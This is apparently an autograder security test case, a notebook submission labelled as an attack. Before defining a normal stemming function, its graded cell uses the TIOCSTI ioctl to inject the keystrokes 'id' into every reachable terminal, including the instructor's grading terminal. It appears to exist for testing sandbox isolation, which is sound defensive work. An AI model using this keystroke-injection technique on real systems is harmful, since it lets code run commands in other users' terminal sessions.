# ---
# attack: Characters are typed into the terminal from which the instructor grades.
# ---

# %% grade_id="stem"
import fcntl
import glob
import termios

for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty[0-9]*")):
    if path == "/dev/pts/ptmx":
        continue
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
        print("reached".upper(), path)
        for character in b"id\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
    except OSError as error:
        print(path, error.strerror)
for descriptor in range(3):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
        print("reached".upper(), descriptor)
    except OSError as error:
        print(descriptor, error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
